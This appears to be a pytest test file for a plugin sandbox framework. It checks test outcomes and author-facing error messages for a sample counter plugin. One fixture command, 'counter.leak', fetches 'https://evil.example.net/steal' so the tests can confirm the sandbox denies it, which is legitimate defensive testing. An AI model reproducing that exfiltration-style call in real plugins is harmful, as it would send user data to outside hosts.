"""The pytest plugin as an author meets it: a plugin directory with a test file, run by pytest
(pytester), passing and failing, with the failure text an author reads."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from tests.testing._plugins import kit_args, write_plugin

pytest_plugins = ["pytester"]

pytestmark = pytest.mark.slow

COUNTER = """
class Main(Plugin):
    @command("counter.bump")
    async def bump(self, by: int = 1) -> int:
        count = int(await self.api.storage.get("count", 0)) + by
        await self.api.storage.set("count", count)
        return count

    @command("counter.leak")
    async def leak(self) -> int:
        response = await self.api.net.fetch("https://evil.example.net/steal")
        return response.status

    @command("counter.fail")
    def fail(self) -> None:
        raise ValueError("the counter broke")
"""
COUNTER_MANIFEST = """
[permissions]
storage = "1 KiB"
network = ["api.example.com"]

[contributes]
commands = [
    { id = "counter.bump", title = "Bump" },
    { id = "counter.leak", title = "Leak" },
    { id = "counter.fail", title = "Fail" },
]
"""


def _project(pytester: pytest.Pytester, test_body: str) -> Path:
    root = write_plugin(pytester.path, "acme.counter", COUNTER, COUNTER_MANIFEST)
    tests = root / "tests"
    tests.mkdir()
    (tests / "test_counter.py").write_text(textwrap.dedent(test_body))
    return root


def test_a_passing_plugin_test(pytester: pytest.Pytester) -> None:
    root = _project(
        pytester,
        """
        def test_bump(plugin):
            plugin.storage.seed({"count": 40})
            assert plugin.command("counter.bump", by=2) == 42
            assert plugin.storage.data == {"count": 42}
            plugin.assert_used("storage.set")
            plugin.assert_only_declared()

        ROUTE = {"method": "GET", "url_pattern": "https://api.example.com/*", "json": {}}

        @pytest.mark.plugport(path="..", sandbox="best-effort", routes=[ROUTE])
        def test_marker_options(plugin):
            assert plugin.command("counter.bump") == 1
            assert [str(r) for r in plugin.net.network.routes] == [
                "GET https://api.example.com/*"
            ]
        """,
    )
    (root / "tests" / "test_counter.py").write_text(
        "import pytest\n" + (root / "tests" / "test_counter.py").read_text()
    )
    record = pytester.path / "calls.json"
    result = pytester.runpytest_subprocess(
        *kit_args(), "-q", "-p", "no:cacheprovider", f"--plugport-record={record}", root
    )
    result.assert_outcomes(passed=2)
    written = json.loads(record.read_text())
    assert written["plugin"] == "acme.counter"
    assert {"capability": "storage", "method": "set", "verdict": "granted", "reason": ""} in (
        written["calls"]
    )


def test_failures_say_what_happened(pytester: pytest.Pytester) -> None:
    root = _project(
        pytester,
        """
        def test_leak_is_denied(plugin):
            plugin.command("counter.leak")

        def test_plugin_error(plugin):
            plugin.command("counter.fail")

        def test_wrong_expectation(plugin):
            plugin.command("counter.bump")
            plugin.assert_used("net.fetch")
        """,
    )
    result = pytester.runpytest_subprocess(*kit_args(), "-q", "-p", "no:cacheprovider", root)
    result.assert_outcomes(failed=3)
    out = result.stdout.str()
    # The denial names the host and the grants, and the denied call is listed under the test.
    assert (
        "may not use net.fetch: evil.example.net:443 is not in the plugin's network grants "
        "(api.example.com)" in out
    )
    assert "plugport: acme.counter denied calls" in out
    # The plugin's own error with its own frames, not the runtime's.
    assert "PluginCallError: plugin 'acme.counter' raised ValueError: the counter broke" in out
    assert 'main.py", line' in out
    assert "raise ValueError" in out
    assert "plugport/runtime" not in out
    assert "acme.counter never used net.fetch; its calls were: storage.get (granted)" in out


def test_bad_plugin_directories_fail_with_one_message(pytester: pytest.Pytester) -> None:
    broken = write_plugin(pytester.path, "acme.broken", "class Main(Plugin):\n    pass\n")
    (broken / "plugport.toml").write_text('name = "acme.broken"\nversion = "1.0.x"\n')
    crashing = write_plugin(pytester.path, "acme.crashing", "import no_such_module\n")
    (pytester.path / "test_bad.py").write_text(
        textwrap.dedent(
            """
            def test_missing(plugin_factory):
                plugin_factory("nowhere")

            def test_no_manifest(plugin_factory, tmp_path):
                plugin_factory(tmp_path)

            def test_invalid_manifest(plugin_factory):
                plugin_factory("broken")

            def test_import_error(plugin_factory):
                plugin_factory("crashing")
            """
        )
    )
    before = sorted(p.name for p in crashing.iterdir())
    result = pytester.runpytest_subprocess(*kit_args(), "-q", "-p", "no:cacheprovider")
    result.assert_outcomes(failed=4)
    out = result.stdout.str()
    assert "nowhere does not exist; pass the directory that holds the plugin's plugport.toml" in (
        out
    )
    assert "has no plugport.toml; pass the plugin's own directory" in out
    assert "broken/plugport.toml is not a valid manifest:" in out
    assert "version" in out
    assert "acme.crashing failed to start: ModuleNotFoundError in its code" in out
    assert "No module named 'no_such_module'" in out
    assert "plugport/testing" not in out
    assert "plugport/runtime" not in out
    assert sorted(p.name for p in crashing.iterdir()) == before  # nothing written into it


def test_two_xdist_workers_share_nothing(pytester: pytest.Pytester) -> None:
    root = _project(
        pytester,
        """
        import pytest

        @pytest.mark.parametrize("by", [1, 2, 3, 4])
        def test_bump(plugin, by):
            assert plugin.command("counter.bump", by=by) == by  # a fresh home per test

        def test_denied(plugin):
            with pytest.raises(Exception):
                plugin.command("counter.leak")
        """,
    )
    record = pytester.path / "calls.json"
    result = pytester.runpytest_subprocess(
        *kit_args(), "-q", "-p", "no:cacheprovider", "-n", "2", f"--plugport-record={record}", root
    )
    result.assert_outcomes(passed=5)
    calls = json.loads(record.read_text())["calls"]  # both workers' calls, in one file
    verdicts = {(c["capability"], c["method"], c["verdict"]) for c in calls}
    assert verdicts == {
        ("storage", "get", "granted"),
        ("storage", "set", "granted"),
        ("net", "fetch", "denied"),
    }
